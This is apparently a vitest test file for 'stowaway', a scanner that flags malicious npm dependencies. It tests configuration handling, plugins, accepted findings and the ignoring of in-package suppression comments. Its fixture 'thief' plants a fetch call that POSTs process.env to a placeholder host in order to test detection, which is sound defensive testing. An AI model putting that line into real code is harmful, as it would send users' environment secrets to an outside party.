import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeEach, describe, expect, test } from 'vitest';
import { main } from '../src/cli.js';
import { cleanUp, plant } from './fixtures/read/plant.js';

cleanUp();

const thief = (host = 'collect.invalid') =>
  `fetch('https://${host}', { method: 'POST', body: JSON.stringify(process.env) });\n`;
const manifest = (name: string, version = '1.0.0') => ({ name, version, main: 'index.js' });

let project: string;
beforeEach(() => {
  project = plant({
    'package.json': manifest('mine'),
    'node_modules/thief/package.json': manifest('thief'),
    'node_modules/thief/index.js': thief(),
    'node_modules/good/package.json': manifest('good'),
    'node_modules/good/index.js': 'module.exports = (a, b) => a + b;\n',
  });
});

const put = (path: string, content: string | object): void => {
  mkdirSync(join(project, path, '..'), { recursive: true });
  writeFileSync(join(project, path), typeof content === 'string' ? content : JSON.stringify(content));
};
const configure = (config: object): void => put('stowaway.config.json', config);

async function stowaway(...argv: readonly string[]) {
  return stowawayIn(project, argv);
}

async function stowawayIn(cwd: string, argv: readonly string[]) {
  const [out, err] = [[] as string[], [] as string[]];
  const code = await main(argv, {
    stdout: { write: text => out.push(text) },
    stderr: { write: text => err.push(text) },
    env: {},
    cwd,
  });
  return { code, out: out.join(''), err: err.join(''), prose: out.join('').replace(/\s+/g, ' ') };
}

interface Json {
  readonly packages: readonly {
    readonly verdict: string;
    readonly findings: readonly { readonly fingerprint: string }[];
    readonly accepted?: readonly object[];
  }[];
  readonly configuration?: object;
}
const json = async (...argv: readonly string[]): Promise<Json> =>
  JSON.parse((await stowaway('--format', 'json', ...argv)).out);

describe('the configuration', () => {
  test('is the one of the folder the command is run in', async () => {
    expect((await stowaway()).code).toBe(1);
    configure({ rules: { 'sends-environment': 'off', 'exceeds-its-purpose': 'off' } });
    const { code, out } = await stowaway();
    expect(code).toBe(0);
    expect(out).toContain('As stowaway.config.json says:');
    expect(out).toContain('for all packages: sends-environment is off, exceeds-its-purpose is off');
  });

  test('may be a key of package.json, but not both', async () => {
    put('package.json', { ...manifest('mine'), stowaway: { failOn: 'never' } });
    expect((await stowaway()).code).toBe(0);
    configure({});
    expect(await stowaway()).toMatchObject({
      code: 2,
      err: 'stowaway: there is a configuration in stowaway.config.json and one in package.json: name one with --config\n',
    });
    expect((await stowaway('--config', 'package.json')).code).toBe(0);
  });

  test('is left alone with --no-config, and outweighed by flags', async () => {
    configure({ failOn: 'never', exclude: ['**/*.js'] });
    expect((await stowaway('--exclude', 'nothing')).code).toBe(0);
    expect((await stowaway('--no-config')).code).toBe(1);
    expect((await stowaway('--exclude', 'nothing', '--fail-on', 'malicious')).code).toBe(1);
  });

  test('is never that of a package that is scanned', async () => {
    put('node_modules/thief/stowaway.config.json', { rules: { 'sends-environment': 'off' } });
    put('node_modules/thief/package.json', { ...manifest('thief'), stowaway: { failOn: 'never' } });
    expect((await stowaway()).code).toBe(1);
    expect((await stowaway('node_modules/thief')).code).toBe(1);
    const inside = join(project, 'node_modules/thief');
    put('node_modules/thief/package.json', manifest('thief'));
    for (const target of ['.', join(project, 'node_modules'), project]) {
      const { code, err } = await stowawayIn(inside, [target]);
      expect(code).toBe(1);
      expect(err).toBe(
        'stowaway: stowaway.config.json is part of what is scanned, and was not used; --config stowaway.config.json uses it\n',
      );
    }
    expect((await stowawayIn(inside, ['--config', 'stowaway.config.json'])).code).toBe(0);
  });

  test('has each of its mistakes told with the line, and nothing is scanned', async () => {
    put('stowaway.config.json', '{\n  "failOn": "always",\n  "rules": { "sends-secrets": "on" }\n}');
    expect(await stowaway()).toMatchObject({
      code: 2,
      out: '',
      err:
        'stowaway: stowaway.config.json:2:13: failOn must be "malicious", "suspicious" or "never", not "always"\n' +
        'stowaway: stowaway.config.json:3:31: rules.sends-secrets must be "off" or a number of bits, 0 to 32\n',
    });
    configure({ rules: { 'send-secrets': 'off' } });
    expect((await stowaway()).err).toBe(
      'stowaway: stowaway.config.json:1:11: rules: there is no rule "send-secrets"; did you mean sends-secrets or reads-secrets?\n',
    );
    expect((await stowaway('--config', 'other.json')).err).toBe('stowaway: other.json: no such file\n');
  });

  test('says by name what holds for a package, and every report shows it', async () => {
    configure({
      packages: [
        { name: 'thief', versions: '^1', rules: { 'sends-environment': 'off' }, failOn: 'never', reason: 'our own' },
      ],
    });
    const { code, prose } = await stowaway();
    expect(code).toBe(0);
    expect(prose).toContain('by name, thief ^1 (1 package): sends-environment is off, fails on never: our own');
    expect((await json()).configuration).toMatchObject({
      overrides: [{ name: 'thief', reason: 'our own', packages: 1 }],
    });
    put('node_modules/thief/package.json', manifest('thief', '2.0.0'));
    expect((await stowaway()).code).toBe(1);
  });
});

describe('rules of the user', () => {
  const plugin = `export default {
    meta: { summary: 'Adds', why: 'x', behaviour: 'capability', messages: { here: 'Adds two numbers' }, bits: { here: 20 } },
    examples: { flags: [], passes: [] },
    file: ({ file, report }) => ({
      BinaryExpression(node) { report({ messageId: 'here', chain: [{ role: 'sink', says: 'adds', origin: { file, node } }] }); },
    }),
  };`;

  test('are run when their configuration is named, and can be weighed as all others', async () => {
    put('rules/adds-numbers.mjs', plugin);
    configure({ plugins: ['./rules/adds-numbers.mjs'] });
    expect((await stowaway('--config', 'stowaway.config.json')).out).toContain('Adds two numbers');
    configure({ plugins: ['./rules/adds-numbers.mjs'], rules: { 'adds-numbers': 'off' } });
    expect((await stowaway('--config', 'stowaway.config.json')).out).not.toContain('Adds two numbers');
  });

  test('are explained as all others', async () => {
    put('rules/adds-numbers.mjs', plugin);
    configure({ plugins: ['./rules/adds-numbers.mjs'] });
    expect((await stowaway('explain', 'adds-numbers', '--config', 'stowaway.config.json')).out).toContain(
      'Adds two numbers',
    );
    expect((await stowaway('explain', 'adds-numbers')).err).toContain("there is no rule 'adds-numbers'");
  });

  test('are code, and not loaded from a configuration that nobody named', async () => {
    put('rules/adds-numbers.mjs', 'globalThis.loadedByStowaway = true;');
    configure({ plugins: ['./rules/adds-numbers.mjs'] });
    expect(await stowaway()).toMatchObject({
      code: 2,
      err: 'stowaway: stowaway.config.json: plugins are code, which is loaded only if --config names the file: --config stowaway.config.json\n',
    });
    expect(globalThis).not.toHaveProperty('loadedByStowaway');
  });

  test.each([
    ['is not there', './rules/none.mjs', undefined, './rules/none.mjs: cannot be found from stowaway.config.json'],
    ['is no module', './rules/bad.mjs', 'export default {', './rules/bad.mjs: cannot be loaded'],
    [
      'has no rules',
      './rules/bad.mjs',
      'export const a = 1;',
      "./rules/bad.mjs: exports neither 'rules' nor a rule by default",
    ],
    [
      'has a rule that is none',
      './rules/bad.mjs',
      'export default { meta: {} };',
      './rules/bad.mjs: rule bad has no meta.messages',
    ],
  ])('are refused in words when a plugin %s', async (_, path, text, says) => {
    if (text !== undefined) put(path, text);
    configure({ plugins: [path] });
    const { code, err } = await stowaway('--config', 'stowaway.config.json');
    expect(code).toBe(2);
    expect(err).toContain(says);
  });

  test('may stand in a configuration that is code, which is named', async () => {
    put('stowaway.config.mjs', "export default { failOn: 'never' };");
    expect((await stowaway()).code).toBe(1);
    expect((await stowaway('--config', 'stowaway.config.mjs')).code).toBe(0);
    put('wrong.config.mjs', "export default { failOn: 'always' };");
    expect((await stowaway('--config', 'wrong.config.mjs')).err).toContain('wrong.config.mjs: failOn must be');
  });
});

describe('an accepted finding', () => {
  test('does not count, is shown with its reason, and falls away when its code changes', async () => {
    const accepted = await stowaway('accept', 'thief', '--reason', 'our telemetry', '--expires', '2999-12-31');
    expect(accepted).toMatchObject({ code: 0, err: '' });
    expect(accepted.out).toMatch(/^Accepted \d findings? until 2999-12-31, in stowaway\.config\.json:\n {2}thief: /);
    const { code, prose } = await stowaway();
    expect(code).toBe(0);
    expect(prose).toMatch(/accepted, until 2999-12-31: thief@1\.0\.0: sends-environment \w{12}: our telemetry/);

    put('node_modules/thief/package.json', manifest('thief', '1.0.1'));
    put('node_modules/thief/index.js', `// 1.0.1\n\n${thief()}module.exports = 1;\n`);
    expect((await stowaway()).code).toBe(0);

    put('node_modules/thief/index.js', thief('gather.invalid'));
    const changed = await stowaway();
    expect(changed.code).toBe(1);
    expect(changed.out).toContain('accepted, but there no more: thief: sends-environment');
  });

  test('counts again after its last day, and is said to', async () => {
    await stowaway('accept', 'thief', '--reason', 'our telemetry');
    const config = JSON.parse(readFileSync(join(project, 'stowaway.config.json'), 'utf8'));
    for (const entry of config.accepted) entry.expires = '2020-01-31';
    configure(config);
    const { code, out } = await stowaway();
    expect(code).toBe(1);
    expect(out).toContain('expired on 2020-01-31, and counts: thief: sends-environment');
  });

  test('is named by the first digits of its fingerprint, and by its rule', async () => {
    const [worst] = (await json()).packages;
    const fingerprint = worst?.findings[0]?.fingerprint ?? '';
    await stowaway('accept', fingerprint.slice(0, 12), '--reason', 'read it');
    expect((await json()).packages.flatMap(({ accepted = [] }) => accepted)).toHaveLength(1);
    expect((await stowaway('accept', 'thief', '--rule', 'sends-secrets', '--reason', 'read it')).err).toBe(
      'stowaway: nothing found that thief could mean: neither a finding nor a package\n',
    );
  });

  test.each([
    [['thief'], /required option '--reason <text>' not specified/],
    [['thief', '--reason', ' '], /--reason must not be empty/],
    [['thief', '--reason', 'a', '--expires', 'soon'], /--expires must be a day, such as 2027-01-31/],
    [['nobody', '--reason', 'a'], /nothing found that nobody could mean/],
  ])('needs what %o lacks, and then nothing is written', async (argv, says) => {
    const { code, err } = await stowaway('accept', ...argv);
    expect(code).toBe(2);
    expect(err).toMatch(says);
    expect(existsSync(join(project, 'stowaway.config.json'))).toBe(false);
  });

  test('is never one because a comment in its package says so', async () => {
    const marks = [
      'stowaway-ignore',
      'stowaway-disable-next-line',
      'eslint-disable',
      'eslint-disable-next-line stowaway/sends-environment',
    ];
    put(
      'node_modules/thief/index.js',
      `${marks.map(mark => `/* ${mark} */ // ${mark}\n`).join('')}${thief().trim()} // ${marks.join(' ')}\n`,
    );
    expect((await stowaway()).code).toBe(1);
  });
});
